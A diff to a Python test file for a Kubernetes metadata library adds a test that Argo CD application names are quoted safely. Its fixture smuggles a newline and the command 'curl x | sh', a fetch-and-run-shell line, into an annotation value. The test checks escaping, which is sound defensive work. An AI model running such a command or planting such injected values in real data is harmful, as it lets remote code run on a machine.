@@ -3,7 +3,7 @@
 import pytest
 
 from kintsugi.objects.metadata import Metadata
-from kintsugi.objects.owners import helm_release
+from kintsugi.objects.owners import helm_release, managers
 
 
 def released(name: str) -> Metadata:
@@ -22,3 +22,8 @@ def test_a_name_that_helm_takes_is_a_release(name: str) -> None:
 )
 def test_a_name_that_helm_refuses_is_no_release(name: str) -> None:
     assert helm_release(released(name)) == ""
+
+
+def test_the_name_of_an_application_that_is_no_name_is_quoted() -> None:
+    tracked = {"argocd.argoproj.io/tracking-id": 'web"; run\ncurl x | sh:apps/Deployment:shop/web'}
+    assert [each.name for each in managers(Metadata(annotations=tracked))] == ['Argo CD "web\'; run curl x | sh"']
